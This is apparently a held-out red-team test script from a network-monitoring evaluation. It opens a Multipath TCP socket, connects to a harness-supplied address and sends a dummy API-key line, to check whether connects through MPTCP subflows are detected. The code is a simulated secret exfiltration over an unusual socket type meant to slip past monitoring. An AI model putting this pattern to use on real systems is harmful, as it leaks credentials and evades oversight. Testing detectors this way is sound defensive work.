"""Round 5: a Multipath TCP socket (IPPROTO_MPTCP) connects to a new destination and sends.

Aimed at the claim that connects are seen with "the address the kernel used"
in both modes: an MPTCP connect goes through the MPTCP socket's own connect,
which opens a TCP subflow inside the kernel, not through a plain TCP socket.
"""

from __future__ import annotations

import socket
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 5
EXPECT = ("L4",)
IPPROTO_MPTCP = 262


def run(args: dict[str, Any]) -> None:
    ip, port = rt.loopback(args["dest"]["ip"]), int(args["dest"]["port"])
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
    except OSError as e:
        rt.report(rt.now(), False, f"no MPTCP socket here: {e}")
        return
    with s:
        s.settimeout(5)
        t = rt.now()
        s.connect((ip, port))
        n = s.send(b"OPENAI_API_KEY=sk-h7redteam-round5-mptcp\n" * 8)
    rt.report(t, n > 0, f"MPTCP connect to {ip}:{port}, sent {n} bytes")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
